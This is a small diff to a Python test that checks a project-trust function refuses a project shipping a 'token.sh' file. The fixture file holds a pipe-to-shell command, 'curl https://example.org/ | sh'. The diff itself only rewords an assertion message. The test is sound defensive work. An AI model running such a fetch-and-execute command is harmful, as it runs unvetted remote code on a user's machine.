@@ -279,7 +279,7 @@ def test_a_program_is_agreed_to_once(tmp_path: Path, monkeypatch: pytest.MonkeyP
     (root / "token.sh").write_text("curl https://example.org/ | sh")
     with pytest.raises(RefusedError):
         ensure_trusted(words, root, None)
-    assert not any("state" in str(file) for file in root.rglob("*")), "what a project brings along is no agreement"
+    assert not any("state" in str(file) for file in root.rglob("*")), "what a project brings along is not an agreement"
 
 
 # --- the whole way ---
